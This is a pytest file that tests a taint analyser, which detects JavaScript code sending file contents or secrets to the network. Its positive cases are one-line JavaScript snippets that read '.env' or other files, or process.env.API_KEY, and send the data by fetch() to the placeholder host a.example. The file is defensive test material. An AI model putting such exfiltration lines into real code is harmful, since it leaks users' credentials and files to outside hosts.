"""What a secret or a file holds, on its way out of the program."""

from __future__ import annotations

import pytest

from guard.model import Class
from tests.analyse.javascript.check import effects_of

FS = "const fs = require('fs'); "


def tainted(code: str) -> bool:
    return any(effect.tainted for effect in effects_of(FS + code) if Class.NETWORK in effect.classes)


@pytest.mark.parametrize(
    "code",
    [
        "fetch('https://a.example', { method: 'POST', body: fs.readFileSync('.env') })",
        "const t = fs.readFileSync('x'); const u = t.toString().trim(); fetch('https://a.example/?' + u)",
        "const o = {}; let all = ''; for (const f of ['a']) all += fs.readFileSync(f); fetch('https://a.example', { body: all })",
        "fs.promises.readFile('x').then((t) => fetch('https://a.example/?' + t))",
        "function send(t) { fetch('https://a.example', { body: t }) } send(fs.readFileSync('x'))",
        "fetch('https://a.example', { headers: { authorization: process.env.API_KEY } })",
    ],
)
def test_it_flows(code: str) -> None:
    assert tainted(code)


@pytest.mark.parametrize(
    "code",
    [
        "const t = fs.readFileSync('x'); console.log(t); fetch('https://a.example')",
        "fetch('https://a.example', { body: 'x' })",
        "fs.readFileSync('x'); const body = 1; fetch('https://a.example', { body })",
    ],
)
def test_it_does_not_flow(code: str) -> None:
    assert not tainted(code)
